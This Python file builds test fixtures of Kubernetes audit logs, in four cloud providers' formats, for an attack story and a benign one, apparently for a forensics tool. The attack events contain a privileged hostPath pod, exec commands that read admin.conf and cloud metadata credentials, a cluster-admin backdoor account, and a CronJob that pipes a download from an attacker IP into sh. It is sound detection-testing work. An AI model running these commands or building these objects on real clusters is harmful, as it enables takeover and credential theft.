"""Builder of the attack and benign audit-log scenarios, written in all four provider formats.

One story, told once as native ``audit.k8s.io/v1`` Events, then written the way each provider
would have logged and exported it (``/work/shared/notes/audit-formats.md``):

- ``native.jsonl``  self-managed API server, log backend, policy: secrets at Metadata, the rest
  at RequestResponse;
- ``eks.json``      ``aws logs filter-log-events`` output; Google's reference policy, which EKS
  also uses (``events`` at None, secrets/configmaps/tokens at Metadata, reads at Request);
- ``aks.json``      Event Hub/storage ``{"records": [...]}``, category ``kube-audit``; the
  ``aks-admin`` variant is the ``kube-audit-admin`` category (no get/list). AKS's policy
  levels are not documented in our notes: secrets, configmaps and tokens at Metadata are
  assumed, as on EKS and GKE;
- ``gke.json``      ``gcloud logging read --format=json``: LogEntry array, Admin Activity plus
  Data Access logs (an investigator who turned reads on); the ``gke-default`` variant has the
  Admin Activity log only, as GKE ships.

The attack: anonymous probing from 203.0.113.66; the ``shop/web`` pod's projected token
(requested by the kubelet, KEP-4193 credential id JTI) used from that address with kubectl;
secrets listed; a privileged pod with a hostPath ``/`` mount created; exec into it; a
look-alike service account bound to cluster-admin, a token requested for it and used from
outside; a CronJob for persistence; events deleted. The benign cluster: controllers,
kubelets, pods using their tokens from their own IPs, a CI bot deploying, an operator
exec-ing into a pod to debug with a named account.

Run ``python tests/audit/scenarios.py tests/audit/fixtures/scenarios`` to rewrite the fixtures;
a test checks the committed files equal this builder's output.
"""

from __future__ import annotations

import copy
import json
import sys
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

PROVIDERS = ("native", "eks", "aks", "gke")
FILES = {"native": "native.jsonl", "eks": "eks.json", "aks": "aks.json", "gke": "gke.json"}
VARIANTS = {"aks-admin": "aks-admin.json", "gke-default": "gke-default.json"}
T0 = datetime(2026, 3, 14, 2, 0, 0, tzinfo=UTC)

ATTACKER_IP = "203.0.113.66"
KUBECTL_UA = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
CURL_UA = "curl/8.5.0"
KCM_UA = "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350"
WEB_UA = "shop-web/1.4.2 (linux/amd64) client-go/v0.29.3"
CI_IP = "198.51.100.20"
OPERATOR_IP = "192.0.2.10"
NODE_A_IP, NODE_B_IP = "10.0.0.11", "10.0.0.12"
WEB_POD, WEB_POD_IP = "web-7d9f8c6b5-x2k4p", "10.244.1.15"
DEBUG_POD, DEBUG_POD_IP = "node-debug", "10.244.2.9"
BACKDOOR_SA = "node-problem-detectr"  # one letter short of node-problem-detector
WEB_JTI = "JTI=2f6c1f0e-6a1b-4a0e-9b57-1c5d2a9e8f31"
BACKDOOR_JTI = "JTI=8d3b7a52-0c4e-4f9a-a3d1-77e0b5c9d214"
OPERATOR_POD_JTI = "JTI=5a0e9c3d-2b7f-4d61-8e4a-90c1f2d3b4a5"

# Per-provider spelling of the same principals.
NODES = {
    "native": ("node-a", "node-b"),
    "eks": ("ip-10-0-0-11.ec2.internal", "ip-10-0-0-12.ec2.internal"),
    "aks": ("aks-nodepool1-31415926-vmss000000", "aks-nodepool1-31415926-vmss000001"),
    "gke": ("gke-prod-default-pool-8a1b2c3d-x1y2", "gke-prod-default-pool-8a1b2c3d-z3w4"),
}
OPERATOR: dict[str, dict[str, Any]] = {
    "native": {"username": "alice", "groups": ["sre", "system:authenticated"]},
    "eks": {
        "username": "arn:aws:sts::111122223333:assumed-role/SRE/alice",
        "uid": "aws-iam-authenticator:111122223333:AROAEXAMPLEROLEID",
        "groups": ["sre", "system:authenticated"],
        "extra": {
            "accessKeyId": ["ASIAEXAMPLEKEY00001"],
            "arn": ["arn:aws:sts::111122223333:assumed-role/SRE/alice"],
            "canonicalArn": ["arn:aws:iam::111122223333:role/SRE"],
            "principalId": ["AROAEXAMPLEROLEID"],
            "sessionName": ["alice"],
        },
    },
    "aks": {
        "username": "alice@contoso.com",
        "uid": "6f1c2d3e-4a5b-4c6d-8e7f-9a0b1c2d3e4f",
        "groups": ["0b1c2d3e-aaaa-4bbb-8ccc-1d2e3f4a5b6c", "system:authenticated"],
        "extra": {"oid": ["6f1c2d3e-4a5b-4c6d-8e7f-9a0b1c2d3e4f"]},
    },
    "gke": {"username": "alice@example.com", "groups": []},
}
CI: dict[str, dict[str, Any]] = {
    p: {
        "username": "system:serviceaccount:ci:deployer",
        "uid": "3c9a7e1b-1d2f-4e3a-b5c6-d7e8f9a0b1c2",
        "groups": ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"],
    }
    for p in PROVIDERS
}
CI["gke"] = {"username": "ci-deployer@shop-prod.iam.gserviceaccount.com", "groups": []}
CLUSTER = {"native": "prod", "eks": "prod-eks", "aks": "prod-aks", "gke": "prod-gke"}


class Story:
    """Accumulates native audit Events for one provider's spelling of the story."""

    def __init__(self, provider: str, seed: str) -> None:
        self.provider = provider
        self.node_a, self.node_b = NODES[provider]
        self.events: list[dict[str, Any]] = []
        self._ns = uuid.uuid5(uuid.NAMESPACE_URL, f"podmortem-scenario:{seed}")
        self._n = 0

    def _id(self) -> str:
        self._n += 1
        return str(uuid.uuid5(self._ns, str(self._n)))

    def request(
        self,
        at: datetime,
        verb: str,
        user: dict[str, Any],
        ip: str,
        ua: str,
        *,
        resource: str | None = None,
        namespace: str | None = None,
        name: str | None = None,
        subresource: str | None = None,
        group: str = "",
        version: str = "v1",
        uri: str | None = None,
        query: str = "",
        code: int = 200,
        body: Any = None,
        response: Any = None,
        annotations: dict[str, str] | None = None,
        stages: tuple[str, ...] = ("ResponseComplete",),
        duration_ms: int = 12,
    ) -> str:
        """Append one API request (one Event per stage); returns its audit ID."""
        audit_id = self._id()
        if uri is None:
            uri = _uri(resource, namespace, name, subresource, group, version) + query
        ref: dict[str, Any] | None = None
        if resource:
            ref = {"resource": resource, "apiVersion": version}
            if group:
                ref["apiGroup"] = group
            for k, v in (("namespace", namespace), ("name", name), ("subresource", subresource)):
                if v:
                    ref[k] = v
        decision = "forbid" if code == 403 else "allow"
        ann = {"authorization.k8s.io/decision": decision}
        if decision == "allow":
            ann["authorization.k8s.io/reason"] = "RBAC: allowed"
        ann.update(annotations or {})
        for stage in stages:
            done = at + timedelta(milliseconds=duration_ms if stage != "ResponseStarted" else 2)
            ev: dict[str, Any] = {
                "kind": "Event",
                "apiVersion": "audit.k8s.io/v1",
                "level": "RequestResponse",
                "auditID": audit_id,
                "stage": stage,
                "requestURI": uri,
                "verb": verb,
                "user": copy.deepcopy(user),
                "sourceIPs": [ip, "10.224.0.4"] if self.provider == "aks" else [ip],
                "userAgent": ua,
                "responseStatus": {"metadata": {}, "code": code},
                "requestReceivedTimestamp": _ts(at),
                "stageTimestamp": _ts(done),
                "annotations": dict(ann),
            }
            if ref:
                ev["objectRef"] = dict(ref)
            if code >= 400:
                ev["responseStatus"].update(
                    {"status": "Failure", "reason": "Forbidden" if code == 403 else "NotFound"}
                )
            if body is not None:
                ev["requestObject"] = copy.deepcopy(body)
            if response is not None and stage == "ResponseComplete":
                ev["responseObject"] = copy.deepcopy(response)
            self.events.append(ev)
        return audit_id

    # --- principals -------------------------------------------------------------------
    def node(self, which: str) -> dict[str, Any]:
        name = self.node_a if which == "a" else self.node_b
        return {
            "username": f"system:node:{name}",
            "groups": ["system:nodes", "system:authenticated"],
            "extra": {
                "authentication.kubernetes.io/credential-id": [
                    f"X509SHA256={uuid.uuid5(self._ns, name).hex * 2}"
                ]
            },
        }

    def pod_sa(self, ns: str, sa: str, pod: str, node: str, jti: str) -> dict[str, Any]:
        return {
            "username": f"system:serviceaccount:{ns}:{sa}",
            "uid": str(uuid.uuid5(self._ns, f"sa:{ns}:{sa}")),
            "groups": [
                "system:serviceaccounts",
                f"system:serviceaccounts:{ns}",
                "system:authenticated",
            ],
            "extra": {
                "authentication.kubernetes.io/credential-id": [jti],
                "authentication.kubernetes.io/node-name": [node],
                "authentication.kubernetes.io/node-uid": [str(uuid.uuid5(self._ns, node))],
                "authentication.kubernetes.io/pod-name": [pod],
                "authentication.kubernetes.io/pod-uid": [str(uuid.uuid5(self._ns, pod))],
            },
        }

    def token_request(  # noqa: PLR0917 - mirrors the TokenRequest's fields
        self,
        at: datetime,
        requester: dict[str, Any],
        ip: str,
        ua: str,
        ns: str,
        sa: str,
        jti: str,
        pod: str | None = None,
        node: str | None = None,
        seconds: int = 3607,
    ) -> str:
        spec: dict[str, Any] = {
            "audiences": ["https://kubernetes.default.svc"],
            "expirationSeconds": seconds,
        }
        if pod:
            spec["boundObjectRef"] = {
                "apiVersion": "v1",
                "kind": "Pod",
                "name": pod,
                "uid": str(uuid.uuid5(self._ns, pod)),
            }
        body = {
            "kind": "TokenRequest",
            "apiVersion": "authentication.k8s.io/v1",
            "metadata": {"creationTimestamp": None},
            "spec": spec,
            "status": {"token": "", "expirationTimestamp": None},
        }
        return self.request(
            at,
            "create",
            requester,
            ip,
            ua,
            resource="serviceaccounts",
            namespace=ns,
            name=sa,
            subresource="token",
            code=201,
            body=body,
            annotations={"authentication.kubernetes.io/issued-credential-id": jti},
        )

    def pod_status(self, at: datetime, which: str, ns: str, pod: str, pod_ip: str) -> None:
        node_ip = NODE_A_IP if which == "a" else NODE_B_IP
        self.request(
            at,
            "patch",
            self.node(which),
            node_ip,
            "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350",
            resource="pods",
            namespace=ns,
            name=pod,
            subresource="status",
            body={"status": {"phase": "Running", "podIP": pod_ip, "podIPs": [{"ip": pod_ip}]}},
        )


def _ts(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _uri(  # noqa: PLR0917 - the parts of a request path, in path order
    resource: str | None,
    ns: str | None,
    name: str | None,
    sub: str | None,
    group: str,
    version: str,
) -> str:
    base = f"/apis/{group}/{version}" if group else f"/api/{version}"
    if not resource:
        return base
    path = base + (f"/namespaces/{ns}" if ns else "") + f"/{resource}"
    if name:
        path += f"/{name}"
    if sub:
        path += f"/{sub}"
    return path


def _exec_query(command: list[str], container: str) -> str:
    parts = [f"command={quote(c, safe='')}" for c in command]
    return "?" + "&".join(
        [*parts, f"container={container}", "stdin=true", "stdout=true", "tty=true"]
    )


def _controllers(s: Story, start: datetime, minutes: int) -> None:
    """The steady hum of a live cluster: leases, endpoints, node heartbeats, pods using
    their own tokens from their own addresses."""
    sched = {"username": "system:kube-scheduler", "groups": ["system:authenticated"]}
    kcm = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"]}
    web = s.pod_sa("shop", "web", WEB_POD, s.node_a, WEB_JTI)
    for m in range(0, minutes, 2):
        t = start + timedelta(minutes=m)
        s.request(
            t,
            "update",
            sched,
            "10.0.0.2",
            "kube-scheduler/v1.30.2 (linux/amd64) kubernetes/3968350/leader-election",
            resource="leases",
            namespace="kube-system",
            name="kube-scheduler",
            group="coordination.k8s.io",
        )
        s.request(
            t + timedelta(seconds=1),
            "update",
            kcm,
            "10.0.0.2",
            "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/leader-election",
            resource="leases",
            namespace="kube-system",
            name="kube-controller-manager",
            group="coordination.k8s.io",
        )
        for which, ip in (("a", NODE_A_IP), ("b", NODE_B_IP)):
            nm = s.node_a if which == "a" else s.node_b
            s.request(
                t + timedelta(seconds=3),
                "update",
                s.node(which),
                ip,
                "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350",
                resource="leases",
                namespace="kube-node-lease",
                name=nm,
                group="coordination.k8s.io",
            )
        if m % 4 == 0:
            s.request(
                t + timedelta(seconds=7),
                "get",
                web,
                WEB_POD_IP,
                WEB_UA,
                resource="configmaps",
                namespace="shop",
                name="web-config",
            )


def _cluster_start(s: Story, start: datetime) -> None:
    """The kubelet requests the web pod's projected token and reports the pod's IP."""
    s.token_request(
        start,
        s.node("a"),
        NODE_A_IP,
        "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350",
        "shop",
        "web",
        WEB_JTI,
        pod=WEB_POD,
        node=s.node_a,
    )
    s.pod_status(start + timedelta(seconds=4), "a", "shop", WEB_POD, WEB_POD_IP)


def attack(provider: str) -> list[dict[str, Any]]:
    s = Story(provider, f"attack:{provider}")
    pre = T0 - timedelta(minutes=12)
    _cluster_start(s, pre)
    _controllers(s, pre, 34)
    anon = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
    t = T0
    # 1. Anonymous probing from the internet.
    s.request(t, "get", anon, ATTACKER_IP, CURL_UA, uri="/version")
    s.request(t + timedelta(seconds=2), "get", anon, ATTACKER_IP, CURL_UA, uri="/api", code=403)
    for i, (res, ns) in enumerate(
        (
            ("pods", None),
            ("secrets", None),
            ("pods", "kube-system"),
            ("namespaces", None),
            ("serviceaccounts", "shop"),
        )
    ):
        s.request(
            t + timedelta(seconds=4 + i),
            "list",
            anon,
            ATTACKER_IP,
            CURL_UA,
            resource=res,
            namespace=ns,
            code=403,
        )
    # 2. The web pod's token, stolen, used from outside the cluster.
    stolen = s.pod_sa("shop", "web", WEB_POD, s.node_a, WEB_JTI)
    t = T0 + timedelta(minutes=5)
    s.request(
        t,
        "create",
        stolen,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="selfsubjectrulesreviews",
        group="authorization.k8s.io",
        code=201,
        body={
            "kind": "SelfSubjectRulesReview",
            "apiVersion": "authorization.k8s.io/v1",
            "spec": {"namespace": "shop"},
        },
    )
    s.request(
        t + timedelta(seconds=20),
        "list",
        stolen,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="pods",
        namespace="shop",
    )
    # 3. Secrets listed, in the namespace and cluster-wide.
    s.request(
        t + timedelta(seconds=60),
        "list",
        stolen,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="secrets",
        namespace="shop",
    )
    s.request(
        t + timedelta(seconds=75), "list", stolen, ATTACKER_IP, KUBECTL_UA, resource="secrets"
    )
    s.request(
        t + timedelta(seconds=90),
        "get",
        stolen,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="secrets",
        namespace="shop",
        name="payments-db",
    )
    # 4. A privileged pod with the host's root mounted, pinned to node b.
    t = T0 + timedelta(minutes=8)
    pod = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": DEBUG_POD, "namespace": "shop"},
        "spec": {
            "nodeName": s.node_b,
            "hostPID": True,
            "hostNetwork": True,
            "containers": [
                {
                    "name": "shell",
                    "image": "alpine:3.19",
                    "command": ["sleep", "infinity"],
                    "securityContext": {"privileged": True},
                    "volumeMounts": [{"name": "host", "mountPath": "/host"}],
                }
            ],
            "volumes": [{"name": "host", "hostPath": {"path": "/", "type": "Directory"}}],
        },
    }
    s.request(
        t,
        "create",
        stolen,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="pods",
        namespace="shop",
        code=201,
        body=pod,
        response=pod,
    )
    s.pod_status(t + timedelta(seconds=9), "b", "shop", DEBUG_POD, DEBUG_POD_IP)
    # 5. Exec into it (kubectl >= 1.30: WebSocket, logged as get; ResponseStarted then Complete).
    t = T0 + timedelta(minutes=9, seconds=30)
    for i, cmd in enumerate(
        (
            ["chroot", "/host", "sh", "-c", "cat /etc/kubernetes/admin.conf"],
            ["sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/"],
        )
    ):
        s.request(
            t + timedelta(seconds=40 * i),
            "get",
            stolen,
            ATTACKER_IP,
            KUBECTL_UA,
            resource="pods",
            namespace="shop",
            name=DEBUG_POD,
            subresource="exec",
            query=_exec_query(cmd, "shell"),
            code=101,
            stages=("ResponseStarted", "ResponseComplete"),
            duration_ms=9000,
        )
    # 6. A look-alike service account, bound to cluster-admin, and a token for it.
    t = T0 + timedelta(minutes=12)
    sa_body = {
        "kind": "ServiceAccount",
        "apiVersion": "v1",
        "metadata": {"name": BACKDOOR_SA, "namespace": "kube-system"},
    }
    s.request(
        t,
        "create",
        stolen,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="serviceaccounts",
        namespace="kube-system",
        code=201,
        body=sa_body,
    )
    crb = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": f"system:{BACKDOOR_SA}"},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "cluster-admin",
        },
        "subjects": [{"kind": "ServiceAccount", "name": BACKDOOR_SA, "namespace": "kube-system"}],
    }
    s.request(
        t + timedelta(seconds=20),
        "create",
        stolen,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="clusterrolebindings",
        name=f"system:{BACKDOOR_SA}",
        group="rbac.authorization.k8s.io",
        code=201,
        body=crb,
        response=crb,
    )
    s.token_request(
        t + timedelta(seconds=40),
        stolen,
        ATTACKER_IP,
        KUBECTL_UA,
        "kube-system",
        BACKDOOR_SA,
        BACKDOOR_JTI,
        seconds=31536000,
    )
    # 7. The new identity, from outside, leaves a CronJob behind.
    backdoor = {
        "username": f"system:serviceaccount:kube-system:{BACKDOOR_SA}",
        "uid": str(uuid.uuid5(s._ns, f"sa:kube-system:{BACKDOOR_SA}")),
        "groups": [
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
        "extra": {"authentication.kubernetes.io/credential-id": [BACKDOOR_JTI]},
    }
    t = T0 + timedelta(minutes=15)
    s.request(t, "list", backdoor, ATTACKER_IP, KUBECTL_UA, resource="nodes")
    cron = {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": "node-problem-sync", "namespace": "kube-system"},
        "spec": {
            "schedule": "*/10 * * * *",
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {
                            "hostNetwork": True,
                            "restartPolicy": "Never",
                            "containers": [
                                {
                                    "name": "sync",
                                    "image": "alpine:3.19",
                                    "command": ["sh", "-c", "wget -qO- http://203.0.113.66/s | sh"],
                                }
                            ],
                        }
                    }
                }
            },
        },
    }
    s.request(
        t + timedelta(seconds=30),
        "create",
        backdoor,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="cronjobs",
        namespace="kube-system",
        group="batch",
        code=201,
        body=cron,
        response=cron,
    )
    # 8. Events deleted (invisible where the policy logs events at level None).
    t = T0 + timedelta(minutes=17)
    s.request(
        t,
        "deletecollection",
        backdoor,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="events",
        namespace="shop",
    )
    s.request(
        t + timedelta(seconds=5),
        "deletecollection",
        backdoor,
        ATTACKER_IP,
        KUBECTL_UA,
        resource="events",
        namespace="kube-system",
    )
    return s.events


def benign(provider: str) -> list[dict[str, Any]]:
    s = Story(provider, f"benign:{provider}")
    start = T0 - timedelta(minutes=12)
    _cluster_start(s, start)
    _controllers(s, start, 60)
    rs = {
        "username": "system:serviceaccount:kube-system:replicaset-controller",
        "groups": [
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
    }
    dep = {
        "username": "system:serviceaccount:kube-system:deployment-controller",
        "groups": [
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
    }
    ci, op = CI[provider], OPERATOR[provider]
    ci_ua = "kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8"
    # The CI bot rolls out a new image of shop/web.
    t = T0 + timedelta(minutes=3)
    s.request(
        t,
        "get",
        ci,
        CI_IP,
        ci_ua,
        resource="deployments",
        namespace="shop",
        name="web",
        group="apps",
    )
    patch = {
        "spec": {
            "template": {
                "spec": {
                    "containers": [{"name": "web", "image": "registry.example.com/shop/web:1.4.3"}]
                }
            }
        }
    }
    s.request(
        t + timedelta(seconds=2),
        "patch",
        ci,
        CI_IP,
        ci_ua,
        resource="deployments",
        namespace="shop",
        name="web",
        group="apps",
        body=patch,
    )
    s.request(
        t + timedelta(seconds=3),
        "create",
        ci,
        CI_IP,
        ci_ua,
        resource="configmaps",
        namespace="shop",
        name="web-release",
        code=201,
        body={
            "kind": "ConfigMap",
            "apiVersion": "v1",
            "metadata": {"name": "web-release"},
            "data": {"version": "1.4.3"},
        },
    )
    s.request(
        t + timedelta(seconds=4),
        "update",
        dep,
        "10.0.0.2",
        KCM_UA + "/system:serviceaccount:kube-system:deployment-controller",
        resource="replicasets",
        namespace="shop",
        name="web-5c8d7f9b4",
        group="apps",
    )
    new_pod = "web-5c8d7f9b4-q8r7t"
    pod = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": new_pod, "namespace": "shop"},
        "spec": {
            "serviceAccountName": "web",
            "containers": [{"name": "web", "image": "registry.example.com/shop/web:1.4.3"}],
        },
    }
    s.request(
        t + timedelta(seconds=5),
        "create",
        rs,
        "10.0.0.2",
        KCM_UA + "/system:serviceaccount:kube-system:replicaset-controller",
        resource="pods",
        namespace="shop",
        code=201,
        body=pod,
        response=pod,
    )
    new_jti = "JTI=c0ffee00-1111-4222-8333-944455556666"
    s.token_request(
        t + timedelta(seconds=8),
        s.node("b"),
        NODE_B_IP,
        "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350",
        "shop",
        "web",
        new_jti,
        pod=new_pod,
        node=s.node_b,
    )
    s.pod_status(t + timedelta(seconds=10), "b", "shop", new_pod, "10.244.2.30")
    new_web = s.pod_sa("shop", "web", new_pod, s.node_b, new_jti)
    for k in range(4):
        s.request(
            t + timedelta(seconds=30 + 60 * k),
            "get",
            new_web,
            "10.244.2.30",
            WEB_UA,
            resource="configmaps",
            namespace="shop",
            name="web-config",
        )
    s.request(
        t + timedelta(seconds=40), "list", ci, CI_IP, ci_ua, resource="pods", namespace="shop"
    )
    # An operator debugs the new pod with their own named account.
    t = T0 + timedelta(minutes=20)
    op_ua = "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"
    s.request(t, "list", op, OPERATOR_IP, op_ua, resource="pods", namespace="shop")
    s.request(
        t + timedelta(seconds=15),
        "get",
        op,
        OPERATOR_IP,
        op_ua,
        resource="pods",
        namespace="shop",
        name=new_pod,
        subresource="log",
    )
    s.request(
        t + timedelta(seconds=50),
        "get",
        op,
        OPERATOR_IP,
        op_ua,
        resource="pods",
        namespace="shop",
        name=new_pod,
        subresource="exec",
        query=_exec_query(["cat", "/etc/resolv.conf"], "web"),
        code=101,
        stages=("ResponseStarted", "ResponseComplete"),
        duration_ms=800,
    )
    s.request(
        t + timedelta(seconds=90),
        "get",
        op,
        OPERATOR_IP,
        op_ua,
        resource="events",
        namespace="shop",
    )
    return s.events


# --- provider views ------------------------------------------------------------------------
_METADATA_ONLY = {"secrets", "configmaps", "tokenreviews"}
_READS = {"get", "list", "watch"}


def policy_view(events: list[dict[str, Any]], provider: str) -> list[dict[str, Any]]:
    """What each provider's audit policy keeps of the story (levels and bodies)."""
    out = []
    for ev in events:
        ref = ev.get("objectRef") or {}
        res, sub, verb = ref.get("resource"), ref.get("subresource"), ev["verb"]
        if provider in ("eks", "gke") and res == "events":
            continue  # Google's reference policy: events at level None
        e = copy.deepcopy(ev)
        metadata_only = res in _METADATA_ONLY or (res == "serviceaccounts" and sub == "token")
        if provider == "native":
            metadata_only = res == "secrets"
        if metadata_only:
            e["level"] = "Metadata"
            e.pop("requestObject", None)
            e.pop("responseObject", None)
        elif provider in ("eks", "gke") and verb in _READS:
            e["level"] = "Request"
            e.pop("responseObject", None)
        out.append(e)
    return out


def eks_envelope(events: list[dict[str, Any]], cluster: str) -> dict[str, Any]:
    stream = "kube-apiserver-audit-5f2b8c9d0e1a4b7c"
    items = []
    for i, ev in enumerate(events):
        ms = int(datetime.fromisoformat(ev["stageTimestamp"]).timestamp() * 1000)
        items.append(
            {
                "logStreamName": stream,
                "timestamp": ms,
                "message": json.dumps(ev, separators=(",", ":")),
                "ingestionTime": ms + 1500,
                "eventId": f"3{ms:020d}{i:08d}",
            }
        )
    return {
        "events": items,
        "searchedLogStreams": [{"logStreamName": stream, "searchedCompletely": True}],
    }


def aks_envelope(
    events: list[dict[str, Any]], cluster: str, category: str = "kube-audit"
) -> dict[str, Any]:
    rid = (
        "/SUBSCRIPTIONS/00000000-1111-2222-3333-444444444444/RESOURCEGROUPS/PROD/PROVIDERS/"
        f"MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/{cluster.upper()}"
    )
    records = []
    for ev in events:
        if category == "kube-audit-admin" and ev["verb"] in ("get", "list", "watch"):
            continue  # the admin category drops reads
        records.append(
            {
                "category": category,
                "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                "properties": {
                    "log": json.dumps(ev, separators=(",", ":")),
                    "pod": "kube-apiserver-6d9c7b5f4-abcde",
                    "stream": "stdout",
                    "containerID": "4e5f6a7b8c9d",
                },
                "resourceId": rid,
                "time": ev["stageTimestamp"],
            }
        )
    return {"records": records}


_GRPC = {200: 0, 201: 0, 101: 0, 403: 7, 404: 5, 401: 16, 409: 6}


def _method_group(group: str) -> str:
    if not group:
        return "core"
    if group.endswith(".k8s.io"):
        return ".".join(reversed(group[: -len(".k8s.io")].split(".")))
    return group if "." not in group else ".".join(reversed(group.split(".")))


def gke_entry(ev: dict[str, Any], project: str, cluster: str) -> dict[str, Any] | None:
    ref = ev.get("objectRef")
    if not ref:
        return None  # non-resource URLs: how GKE renders them was not verified; left out
    group = ref.get("apiGroup", "")
    prefix = (
        "io.k8s." + _method_group(group)
        if (not group or "." not in group or group.endswith(".k8s.io"))
        else _method_group(group)
    )
    parts = [ref["resource"]] + ([ref["subresource"]] if ref.get("subresource") else [])
    method = ".".join([prefix, ref.get("apiVersion", "v1"), *parts, ev["verb"]])
    rname = "/".join(
        x
        for x in [
            group or "core",
            ref.get("apiVersion", "v1"),
            f"namespaces/{ref['namespace']}" if ref.get("namespace") else "",
            ref["resource"],
            ref.get("name", ""),
            ref.get("subresource", ""),
        ]
        if x
    )
    labels = dict(ev.get("annotations") or {})
    if ref.get("subresource") in ("exec", "attach"):
        from urllib.parse import parse_qs, urlsplit

        cmd = parse_qs(urlsplit(ev["requestURI"]).query).get("command", [])
        labels["command.gke.io/command"] = json.dumps(cmd)
    user = ev["user"]["username"]
    code = ev["responseStatus"]["code"]
    proto: dict[str, Any] = {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "authenticationInfo": {} if user == "system:anonymous" else {"principalEmail": user},
        "authorizationInfo": [{"granted": code != 403, "permission": method, "resource": rname}],
        "methodName": method,
        "requestMetadata": {
            "callerIp": ev["sourceIPs"][0],
            "callerSuppliedUserAgent": ev["userAgent"],
        },
        "resourceName": rname,
        "serviceName": "k8s.io",
        "status": {"code": _GRPC.get(code, 2)} if code >= 400 else {},
    }
    if "requestObject" in ev:
        proto["request"] = ev["requestObject"]
    if "responseObject" in ev:
        proto["response"] = ev["responseObject"]
    # exec/attach over WebSocket arrive as `get` but need `create` on the subresource: an
    # admin action, not a data read.
    is_read = ev["verb"] in _READS and ref.get("subresource") not in (
        "exec",
        "attach",
        "portforward",
    )
    log = "data_access" if is_read else "activity"
    return {
        "insertId": ev["auditID"],
        "labels": labels,
        "logName": f"projects/{project}/logs/cloudaudit.googleapis.com%2F{log}",
        "operation": {"id": ev["auditID"], "producer": "k8s.io", "first": True, "last": True},
        "protoPayload": proto,
        "receiveTimestamp": ev["stageTimestamp"],
        "resource": {
            "type": "k8s_cluster",
            "labels": {"project_id": project, "location": "europe-west1", "cluster_name": cluster},
        },
        "severity": "NOTICE",
        "timestamp": ev["stageTimestamp"],
    }


def gke_entries(
    events: list[dict[str, Any]], cluster: str, data_access: bool = True
) -> list[dict[str, Any]]:
    out = []
    for ev in events:
        # One LogEntry per request: Cloud Logging writes the completed request only.
        if ev["stage"] != "ResponseComplete":
            continue
        entry = gke_entry(ev, "shop-prod", cluster)
        if entry is None or (not data_access and entry["logName"].endswith("data_access")):
            continue
        out.append(entry)
    return out


def story_events(story: str, provider: str) -> list[dict[str, Any]]:
    """The story as this provider's policy logged it, in log order (stage time)."""
    events = policy_view(attack(provider) if story == "attack" else benign(provider), provider)
    return sorted(events, key=lambda e: (e["stageTimestamp"], e["auditID"], e["stage"]))


def render(story: str, provider: str) -> str:
    """The fixture file's text for one story in one provider's export format (or variant)."""
    base = provider.split("-", maxsplit=1)[0]
    events = story_events(story, base)
    cluster = CLUSTER[base]
    if provider == "native":
        return "".join(json.dumps(e, separators=(",", ":")) + "\n" for e in events)
    if provider == "eks":
        doc: Any = eks_envelope(events, cluster)
    elif provider == "aks":
        doc = aks_envelope(events, cluster)
    elif provider == "aks-admin":
        doc = aks_envelope(events, cluster, "kube-audit-admin")
    elif provider == "gke":
        doc = gke_entries(events, cluster)
    elif provider == "gke-default":
        doc = gke_entries(events, cluster, data_access=False)
    else:
        raise ValueError(provider)
    return json.dumps(doc, indent=1) + "\n"


def fixture_files() -> Iterator[tuple[str, str, str]]:
    """(story, provider or variant, file name) for every fixture."""
    for story in ("attack", "benign"):
        for provider, name in (*FILES.items(), *VARIANTS.items()):
            yield story, provider, name


def write_all(out: Path) -> list[Path]:
    written = []
    for story, provider, name in fixture_files():
        path = out / story / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(render(story, provider), encoding="utf-8")
        written.append(path)
    return written


if __name__ == "__main__":
    for p in write_all(
        Path(sys.argv[1] if len(sys.argv) > 1 else "tests/audit/fixtures/scenarios")
    ):
        print(p)
